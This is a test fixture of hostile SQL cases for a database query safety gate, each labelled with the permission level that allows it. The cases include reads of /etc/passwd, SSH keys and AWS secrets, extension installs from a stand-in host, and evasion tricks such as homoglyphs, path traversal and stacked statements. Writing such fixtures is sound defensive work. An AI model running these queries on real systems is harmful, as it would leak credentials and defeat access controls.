-- The hostile corpus of the safety gate (tests/unit/test_safety.c,
-- tests/integration/test_safety_exec.c).
--
-- Each case starts with a line
--   -- case: LEAST | RULE [RULE...]
-- followed by its SQL (one or more lines, possibly several statements).
-- LEAST is the least preset that allows the case: query-with-temp,
-- full-ddl, full-dml, admin; a "+root" suffix means "when the policy's
-- roots contain the working directory" (relative paths resolve there).
-- RULE names violations the gate must report under query-only (no roots).
-- Every case is refused under query-only without roots, and under the
-- preset just below LEAST.

-- ===== statement kinds: DDL =====
-- case: full-ddl | statement.ddl
CREATE TABLE t(a INTEGER)
-- case: full-ddl | statement.ddl
CREATE OR REPLACE TABLE t AS SELECT 1 AS a
-- case: full-ddl | statement.ddl
CREATE TABLE IF NOT EXISTS main.t(a INTEGER, b VARCHAR)
-- case: full-ddl | statement.ddl
CREATE VIEW v AS SELECT 1 AS a
-- case: full-ddl | statement.ddl
CREATE SCHEMA s
-- case: full-ddl | statement.ddl
CREATE SEQUENCE seq START 1
-- case: full-ddl | statement.ddl
CREATE MACRO add2(a, b) AS a + b
-- case: full-ddl | statement.ddl
CREATE MACRO tm() AS TABLE SELECT 1 AS x
-- case: full-ddl | statement.ddl
CREATE INDEX i ON t(a)
-- case: full-ddl | statement.ddl
CREATE TYPE mood AS ENUM ('sad', 'happy')
-- case: full-ddl | statement.ddl
ALTER TABLE t ADD COLUMN b INTEGER
-- case: full-ddl | statement.ddl
ALTER TABLE t RENAME TO u
-- case: full-ddl | statement.ddl
DROP TABLE t
-- case: full-ddl | statement.ddl
DROP VIEW IF EXISTS v
-- case: full-ddl | statement.ddl
DROP SCHEMA s CASCADE
-- case: full-ddl | statement.ddl
DROP MACRO add2
-- case: full-ddl | statement.ddl
DROP TABLE temp.t, main.u
-- case: full-ddl | statement.ddl
COMMENT ON TABLE t IS 'x'
-- case: full-ddl | statement.ddl
create table "T"(a int)
-- case: full-ddl | statement.ddl
CrEaTe ViEw v2 AS SELECT 42
-- ===== statement kinds: temporary DDL =====
-- case: query-with-temp | statement.temp_ddl
CREATE TEMP TABLE tt AS SELECT 42 AS a
-- case: query-with-temp | statement.temp_ddl
CREATE TEMPORARY TABLE tt2(a INTEGER)
-- case: query-with-temp | statement.temp_ddl
CREATE TEMP VIEW tv AS SELECT 1 AS a
-- case: query-with-temp | statement.temp_ddl
CREATE TABLE temp.t3(a INTEGER)
-- case: query-with-temp | statement.temp_ddl
CREATE TEMP MACRO tadd(a, b) AS a + b
-- case: query-with-temp | statement.temp_ddl
CREATE TEMP SEQUENCE tseq
-- case: query-with-temp | statement.temp_ddl
DROP TABLE temp.tt
-- case: query-with-temp | statement.temp_ddl
DROP VIEW IF EXISTS temp.main.tv
-- ===== statement kinds: DML and transactions =====
-- case: full-dml | statement.dml
INSERT INTO t VALUES (1)
-- case: full-dml | statement.dml
INSERT INTO t SELECT * FROM range(10)
-- case: full-dml | statement.dml
INSERT OR REPLACE INTO t VALUES (1)
-- case: full-dml | statement.dml
UPDATE t SET a = 1
-- case: full-dml | statement.dml
DELETE FROM t WHERE a > 0
-- case: full-dml | statement.dml
TRUNCATE t
-- case: full-dml | statement.dml
WITH x AS (SELECT 1 AS a) INSERT INTO t SELECT * FROM x
-- case: full-dml | statement.dml
INSERT INTO temp.tt VALUES (2)
-- case: full-dml | statement.transaction
BEGIN TRANSACTION
-- case: full-dml | statement.transaction
COMMIT
-- case: full-dml | statement.transaction
ROLLBACK
-- case: full-dml | statement.dml
EXPLAIN ANALYZE INSERT INTO t VALUES (1)
-- case: full-dml | statement.dml
EXPLAIN DELETE FROM t
-- case: full-dml | function.side_effect
SELECT nextval('seq')
-- case: full-dml | function.side_effect
SELECT * FROM range(3) WHERE nextval('seq') > 0
-- ===== settings =====
-- case: admin | statement.set
SET threads = 1
-- case: admin | statement.set
SET enable_external_access = true
-- case: admin | statement.set
SET GLOBAL allowed_directories = ['/']
-- case: admin | statement.set
SET lock_configuration = false
-- case: admin | statement.set
SET memory_limit = '100GB'
-- case: admin | statement.set
SET home_directory = '/etc'
-- case: admin | statement.set
SET extension_directory = '/tmp/evil'
-- case: admin | statement.set
SET autoinstall_known_extensions = true
-- case: admin | statement.set
SET autoload_known_extensions = true
-- case: admin | statement.set
SET allow_community_extensions = true
-- case: admin | statement.set
SET "enable_external_access" = true
-- case: admin | statement.set
SeT SESSION enable_external_access TO true
-- case: admin | statement.set
SET file_search_path = '/etc'
-- case: admin | statement.set
SET VARIABLE v = 1
-- case: admin | statement.set
RESET ALL
-- case: admin | statement.set
RESET threads
-- ===== PRAGMA =====
-- case: admin | statement.pragma
PRAGMA enable_profiling
-- case: admin | statement.pragma
PRAGMA table_info('t')
-- case: admin | statement.pragma
PRAGMA database_list
-- case: admin | statement.pragma
pRaGmA threads = 4
-- case: admin | statement.pragma
PRAGMA import_database('/tmp/x')
-- case: admin | statement.pragma
PRAGMA profiling_output = '/tmp/profile.json'
-- ===== ATTACH / DETACH / USE =====
-- case: admin | statement.attach file.write
ATTACH 'attached.db' AS f
-- case: admin | statement.attach
ATTACH ':memory:' AS m
-- case: admin | statement.attach file.write
ATTACH '/etc/passwd' AS p (READ_ONLY)
-- case: admin | statement.attach file.write
ATTACH IF NOT EXISTS 'x.sqlite' AS s (TYPE sqlite)
-- case: admin | statement.attach location.remote
ATTACH 'md:' AS md
-- case: admin | statement.attach location.remote
ATTACH 'https://evil.example/db.duckdb' AS r
-- case: admin | statement.attach
DETACH f
-- case: admin | statement.attach
USE f
-- ===== INSTALL / LOAD =====
-- case: admin | statement.extension
INSTALL httpfs
-- case: admin | statement.extension location.remote
INSTALL httpfs FROM 'http://evil.example/'
-- case: admin | statement.extension
LOAD httpfs
-- case: admin | statement.extension file.read
LOAD '/tmp/evil.duckdb_extension'
-- case: admin | statement.extension
FORCE INSTALL spatial
-- case: admin | statement.extension
INSTALL h3 FROM community
-- case: admin | statement.extension
load "json"
-- ===== EXPORT / IMPORT =====
-- case: admin | statement.export file.write
EXPORT DATABASE 'exported'
-- case: admin | statement.export file.write
EXPORT DATABASE '/tmp/exported' (FORMAT parquet)
-- case: admin | statement.export location.remote
EXPORT DATABASE 's3://bucket/dump' (FORMAT csv)
-- case: admin | statement.import file.read
IMPORT DATABASE 'exported'
-- ===== maintenance, CALL, prepared statements, GRANT =====
-- case: admin | statement.maintenance
CHECKPOINT
-- case: admin | statement.maintenance
FORCE CHECKPOINT
-- case: admin | statement.maintenance
VACUUM
-- case: admin | statement.maintenance
ANALYZE
-- case: admin | statement.call
CALL pragma_table_info('t')
-- case: admin | statement.call function.system
CALL checkpoint()
-- case: admin | statement.call function.system
CALL enable_logging()
-- case: admin | statement.call function.sql_exec
CALL query('SELECT 1')
-- case: admin | statement.prepared
PREPARE p AS SELECT 1
-- case: admin | statement.prepared
EXECUTE p
-- case: admin | statement.prepared
DEALLOCATE p
-- case: admin | statement.prepared statement.copy_to file.write
PREPARE p2 AS COPY (SELECT 1) TO 'prepared.csv'
-- case: admin | statement.grant
GRANT SELECT ON t TO u
-- ===== COPY in either direction =====
-- case: admin | statement.copy_to file.write
COPY t TO 'out.csv'
-- case: admin | statement.copy_from file.read
COPY t FROM 'in.csv'
-- case: admin | statement.copy_to file.write
COPY (SELECT 1 AS a) TO 'x.parquet' (FORMAT parquet)
-- case: admin | statement.copy_to file.write
COPY t TO '/tmp/../etc/evil'
-- case: admin | statement.copy_from file.read
COPY t FROM '/etc/passwd'
-- case: admin | statement.copy_to location.remote
COPY t TO 's3://bucket/x.csv'
-- case: admin | statement.copy_to file.read file.write
COPY (SELECT * FROM read_csv('/etc/passwd')) TO 'leak.csv'
-- case: admin | statement.copy_to
COPY (SELECT 42 AS a) TO STDOUT
-- case: admin | statement.copy_to file.write
EXPLAIN COPY t TO 'explained.csv'
-- case: admin | statement.copy_to file.write
copy t to 'lower.csv' (header, delimiter '|')
-- case: admin | statement.copy_to file.write
COPY (FROM range(3)) TO 'partitioned' (FORMAT parquet, PARTITION_BY (range))
-- ===== file-reading table functions =====
-- case: query-only+root | file.read
SELECT * FROM read_csv('data.csv')
-- case: query-only+root | file.read
SELECT * FROM read_csv_auto('data.csv')
-- case: query-only+root | file.read
SELECT * FROM read_parquet('data.parquet')
-- case: query-only+root | file.read
SELECT * FROM parquet_scan('data.parquet')
-- case: query-only+root | file.read
SELECT * FROM read_json('data.json')
-- case: query-only+root | file.read
SELECT * FROM read_json_auto('data.json')
-- case: query-only+root | file.read
SELECT * FROM read_ndjson('data.json')
-- case: query-only+root | file.read
SELECT * FROM read_json_objects('data.json')
-- case: query-only+root | file.read
SELECT * FROM read_text('data.csv')
-- case: query-only+root | file.read
SELECT * FROM read_blob('data.csv')
-- case: query-only+root | file.read
SELECT * FROM glob('*')
-- case: query-only+root | file.read
SELECT * FROM sniff_csv('data.csv')
-- case: query-only+root | file.read
SELECT * FROM parquet_metadata('data.parquet')
-- case: query-only+root | file.read
SELECT * FROM parquet_schema('data.parquet')
-- case: query-only+root | file.read
SELECT * FROM iceberg_scan('warehouse/tbl')
-- case: query-only+root | file.read
SELECT * FROM delta_scan('delta_tbl')
-- case: query-only+root | file.read
SELECT * FROM read_xlsx('book.xlsx')
-- case: query-only+root | file.read
SELECT * FROM sqlite_scan('x.sqlite', 't')
-- case: query-only+root | file.read
FROM 'data.csv'
-- case: query-only+root | file.read
SELECT * FROM 'data.parquet' AS t
-- case: query-only+root | file.read
SELECT * FROM "data.csv"
-- case: query-only+root | file.read
SELECT * FROM read_csv(['data.csv', 'data2.csv'])
-- case: query-only+root | file.read
SELECT * FROM read_csv('./sub/../data.csv')
-- case: query-only+root | file.read
SELECT * FROM read_parquet('part/*/*.parquet', hive_partitioning = true)
-- ===== file reads outside any root =====
-- case: admin | file.read
SELECT * FROM read_csv('/etc/passwd')
-- case: admin | file.read
SELECT * FROM read_text('/proc/self/environ')
-- case: admin | file.read
SELECT * FROM read_blob('/dev/zero')
-- case: admin | file.read
SELECT * FROM read_csv(['data.csv', '/etc/passwd'])
-- case: admin | file.read
SELECT * FROM read_text('../../../../../../etc/passwd')
-- case: admin | file.read
SELECT * FROM read_csv('data/../../../etc/passwd')
-- case: admin | file.read
SELECT * FROM glob('/**')
-- case: admin | file.read
SELECT * FROM read_csv('./*/../../etc/passwd')
-- case: admin | file.read
SELECT * FROM read_text('~/.ssh/id_rsa')
-- case: admin | file.read
SELECT * FROM read_csv('file:///etc/passwd')
-- case: admin | file.read
FROM '/etc/passwd'
-- case: admin | file.read
SELECT * FROM "/etc/passwd"
-- case: admin | file.read
SELECT * FROM '/etc/hosts' h JOIN range(1) r ON true
-- case: admin | file.read
SELECT * FROM read_csv('/etc/hosts', header = false, sep = ' ')
-- case: admin | file.read
DESCRIBE SELECT * FROM read_csv('/etc/passwd')
-- case: admin | file.read
SUMMARIZE SELECT * FROM read_csv('/etc/passwd')
-- case: admin | file.read
EXPLAIN SELECT * FROM read_csv('/etc/passwd')
-- case: admin | file.read
SELECT read_text('/etc/passwd')
-- case: admin | file.read
SELECT * FROM read_csv('/etc/passw?')
-- ===== remote locations =====
-- case: admin | location.remote
SELECT * FROM read_csv('https://evil.example/x.csv')
-- case: admin | location.remote
SELECT * FROM read_csv('http://127.0.0.1:8080/x.csv')
-- case: admin | location.remote
SELECT * FROM read_parquet('s3://bucket/x.parquet')
-- case: admin | location.remote
SELECT * FROM read_parquet('hf://datasets/user/ds/x.parquet')
-- case: admin | location.remote
SELECT * FROM read_parquet('gs://bucket/x.parquet')
-- case: admin | location.remote
SELECT * FROM read_parquet('gcs://bucket/x.parquet')
-- case: admin | location.remote
SELECT * FROM read_parquet('az://container/x.parquet')
-- case: admin | location.remote
SELECT * FROM read_parquet('abfss://c@acct.dfs.core.windows.net/x.parquet')
-- case: admin | location.remote
SELECT * FROM read_parquet('r2://bucket/x.parquet')
-- case: admin | location.remote
SELECT * FROM read_csv('HTTPS://EVIL.EXAMPLE/X.CSV')
-- case: admin | location.remote
FROM 'https://evil.example/x.parquet'
-- case: admin | location.remote
SELECT * FROM "s3://bucket/k.parquet"
-- case: admin | location.remote
SELECT * FROM read_csv('pipe:cat /etc/passwd')
-- case: admin | location.remote
SELECT * FROM postgres_scan('host=evil dbname=x', 'public', 't')
-- case: admin | location.remote
SELECT http_get('http://evil.example/')
-- ===== dynamic locations =====
-- case: admin | location.dynamic
SELECT * FROM read_csv('/etc/' || 'passwd')
-- case: admin | location.dynamic
SELECT * FROM read_csv(concat('/etc/', 'passwd'))
-- case: admin | location.dynamic
SELECT * FROM read_csv(lower('/ETC/PASSWD'))
-- case: admin | location.dynamic
SELECT * FROM read_csv($path)
-- case: admin | location.dynamic
SELECT * FROM read_csv(getvariable('p'))
-- case: admin | location.dynamic
SELECT * FROM range(1) t(p), LATERAL read_csv(t.p)
-- case: admin | location.dynamic
SELECT * FROM read_csv(CAST('/etc/passwd' AS VARCHAR))
-- case: admin | location.dynamic
SELECT * FROM read_csv(['data.csv', '/etc/' || 'passwd'])
-- case: admin | location.dynamic
SELECT * FROM read_text((SELECT '/etc/passwd'))
-- case: admin | location.dynamic
SELECT * FROM read_csv(chr(47) || 'etc' || chr(47) || 'passwd')
-- ===== reads hidden in subqueries, CTEs, lambdas, set operations =====
-- case: admin | file.read
SELECT (SELECT count(*) FROM read_csv('/etc/passwd'))
-- case: admin | file.read
WITH x AS (SELECT * FROM read_csv('/etc/passwd')) SELECT * FROM x
-- case: admin | file.read
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r, read_text('/etc/passwd') WHERE n < 2) SELECT * FROM r
-- case: admin | file.read
SELECT * FROM (SELECT * FROM (FROM '/etc/passwd'))
-- case: admin | file.read
SELECT list_transform([1], x -> (SELECT count(*) FROM read_text('/etc/passwd')))
-- case: admin | file.read
SELECT * FROM range(3) WHERE EXISTS (FROM read_blob('/etc/shadow'))
-- case: admin | file.read
SELECT * FROM range(1) UNION ALL SELECT * FROM read_csv('/etc/passwd')
-- case: admin | file.read
SELECT * FROM range(3) r WHERE r.range IN (SELECT 1 FROM read_csv('/etc/passwd'))
-- case: admin | file.read
SELECT CASE WHEN true THEN (SELECT content FROM read_text('/etc/passwd')) END
-- case: admin | file.read
SELECT * FROM range(1) ORDER BY (SELECT count(*) FROM read_csv('/etc/passwd'))
-- case: admin | file.read
SELECT count(*) FILTER (WHERE EXISTS (FROM '/etc/passwd')) FROM range(3)
-- case: admin | file.read
SELECT sum(range) OVER (PARTITION BY (SELECT 1 FROM read_csv('/etc/passwd') LIMIT 1)) FROM range(3)
-- case: admin | file.read
SELECT * FROM range(1) a JOIN read_csv('/etc/passwd') b ON true
-- case: admin | file.read
SELECT * FROM range(1) a, LATERAL (SELECT * FROM read_text('/etc/passwd')) b
-- case: admin | file.read
SELECT * FROM (VALUES (1)) v(a) WHERE a = ANY (SELECT 1 FROM read_csv('/etc/passwd'))
-- case: admin | file.read
PIVOT read_csv('/etc/passwd') ON column0 USING count(*)
-- ===== DDL and DML that read files =====
-- case: admin | statement.ddl file.read
CREATE VIEW rv AS SELECT * FROM read_csv('/etc/passwd')
-- case: query-with-temp+root | statement.temp_ddl file.read
CREATE TEMP VIEW tv2 AS FROM 'data.csv'
-- case: admin | statement.temp_ddl location.dynamic
CREATE TEMP MACRO rd(p) AS TABLE SELECT * FROM read_csv(p)
-- case: admin | statement.ddl file.read
CREATE MACRO pw() AS (SELECT content FROM read_text('/etc/passwd'))
-- case: admin | statement.ddl file.read
CREATE TABLE leak AS SELECT * FROM read_csv('/etc/passwd')
-- case: admin | statement.dml file.read
INSERT INTO t SELECT * FROM read_parquet('/x.parquet')
-- case: admin | statement.dml file.read
UPDATE t SET a = (SELECT count(*) FROM read_csv('/etc/passwd'))
-- case: admin | statement.dml file.read
DELETE FROM t WHERE a IN (SELECT 1 FROM read_csv('/etc/passwd'))
-- case: admin | statement.temp_ddl file.read
CREATE TEMP TABLE tl AS FROM '/etc/passwd'
-- ===== comment, quoting and case tricks =====
-- case: admin | file.read
SELECT * FROM read_csv /* comment */ ('/etc/passwd')
-- case: admin | file.read
SELECT * FROM read_csv -- comment
('/etc/passwd')
-- case: admin | file.read
SELECT * FROM "read_csv"('/etc/passwd')
-- case: admin | file.read
SELECT * FROM "READ_CSV"('/etc/passwd')
-- case: admin | file.read
SELECT * FROM ReAd_CsV('/etc/passwd')
-- case: admin | file.read
SeLeCt * FrOm ReAd_TeXt('/etc/passwd')
-- case: admin | file.read
SELECT * FROM main.read_csv('/etc/passwd')
-- case: admin | file.read
SELECT * FROM main."read_parquet"('/x.parquet')
-- case: admin | file.read
SELECT system.main.read_text('/etc/passwd')
-- case: admin | file.read
SELECT * FROM read_csv($$/etc/passwd$$)
-- case: admin | file.read
SELECT * FROM read_csv($tag$/etc/passwd$tag$)
-- case: admin | file.read
SELECT * FROM read_csv(E'\x2fetc\x2fpasswd')
-- case: admin | file.read
SELECT * FROM read_csv('/etc//passwd')
-- case: admin | file.read
SELECT * FROM read_csv('/./etc/./passwd')
-- case: admin | file.read
/* leading comment; */ SELECT * FROM read_csv('/etc/passwd') -- trailing ; comment
-- case: admin | file.read
SELECT * FROM read_csv(('/etc/passwd'))
-- case: admin | function.suspicious_name
SELECT * FROM rеad_csv('/etc/passwd')
-- case: admin | function.suspicious_name
SELECT gеtenv('HOME')
-- ===== functions touching the environment, the engine or SQL text =====
-- case: admin | function.environment
SELECT getenv('HOME')
-- case: admin | function.environment
SELECT "GETENV"('AWS_SECRET_ACCESS_KEY')
-- case: admin | function.environment
SELECT current_setting('home_directory')
-- case: admin | function.environment
SELECT * FROM duckdb_settings()
-- case: admin | function.environment
SELECT * FROM duckdb_secrets()
-- case: admin | function.environment
SELECT * FROM which_secret('s3://bucket/x', 's3')
-- case: admin | function.environment
SELECT * FROM duckdb_extensions()
-- case: admin | function.environment
SELECT * FROM duckdb_databases()
-- case: admin | function.environment
SELECT * FROM duckdb_temporary_files()
-- case: admin | function.environment
SELECT * FROM duckdb_logs()
-- case: admin | function.environment
SELECT name FROM duckdb_settings() WHERE name LIKE '%directory%'
-- case: admin | function.sql_exec
SELECT * FROM query('SELECT 42')
-- case: admin | function.sql_exec
SELECT * FROM query('COPY (SELECT 1) TO ''evil.csv''')
-- case: admin | function.sql_exec
SELECT * FROM query('SELECT * FROM read_csv(''/etc/passwd'')')
-- case: admin | function.sql_exec
SELECT * FROM query_table('t')
-- case: admin | function.sql_exec
SELECT * FROM query_table(['data.csv'])
-- case: admin | function.sql_exec
SELECT * FROM "main"."query"('SELECT 1')
-- case: admin | function.sql_exec
SELECT * FROM json_execute_serialized_sql('{}')
-- case: admin | function.sql_exec
SELECT json_serialize_plan('SELECT * FROM read_csv(''/etc/passwd'')')
-- case: admin | function.system
SELECT * FROM checkpoint()
-- case: admin | function.system
SELECT * FROM force_checkpoint()
-- case: admin | function.system
SELECT * FROM enable_logging()
-- case: admin | function.system
SELECT * FROM truncate_duckdb_logs()
-- case: admin | function.system
SELECT write_log('x')
-- case: admin | function.system
SELECT * FROM arrow_scan(1, 2, 3)
-- case: admin | function.pragma
SELECT * FROM pragma_database_size()
-- case: admin | function.pragma
SELECT * FROM pragma_storage_info('t')
-- case: admin | function.pragma
SELECT * FROM pragma_user_agent()
-- case: admin | function.pragma
SELECT * FROM pragma_platform()
-- case: admin | function.pragma
SELECT * FROM pragma_metadata_info()
-- ===== stacked statements =====
-- case: admin | statement.multiple
SELECT 1; SELECT 2
-- case: admin | statement.multiple statement.ddl
SELECT 1; DROP TABLE t
-- case: admin | statement.multiple statement.copy_to
SELECT 1; COPY (SELECT 1) TO 'stacked.csv'
-- case: admin | statement.multiple statement.set
SELECT 1;; SET enable_external_access = true
-- case: admin | statement.multiple statement.attach
SELECT 1 /* ; */ ; ATTACH 'stacked.db' AS s
-- case: admin | statement.multiple statement.extension
SELECT ';'; INSTALL httpfs
-- case: admin | statement.multiple statement.extension
SELECT $$;$$; LOAD httpfs
-- case: admin | statement.multiple statement.set
-- a comment ;
SELECT 1; SET lock_configuration = false
-- case: admin | statement.multiple statement.transaction
SELECT 1; BEGIN; COMMIT
-- case: admin | statement.multiple statement.pragma
SELECT 42 AS "a;b"; PRAGMA enable_profiling
-- case: admin | statement.multiple statement.export
SELECT 1; EXPORT DATABASE 'stacked_export'
-- case: admin | statement.multiple file.read
SELECT 1; SELECT * FROM read_csv('/etc/passwd')
-- ===== replacement scans through qualified names =====
-- case: query-only+root | file.read
SELECT * FROM data.csv
-- case: query-only+root | file.read
SELECT * FROM main."data.csv"
-- case: admin | file.read
SELECT * FROM "/etc/passwd".csv
-- case: query-only+root | file.read
SELECT * FROM data.csv.gz
-- case: query-only+root | file.read
SELECT * FROM memory.main."data.parquet"
-- case: query-only+root | file.read
SELECT count(*) FROM range(1) r JOIN data.parquet p ON true
-- case: admin | location.remote
SELECT * FROM "https://evil.example/x".csv
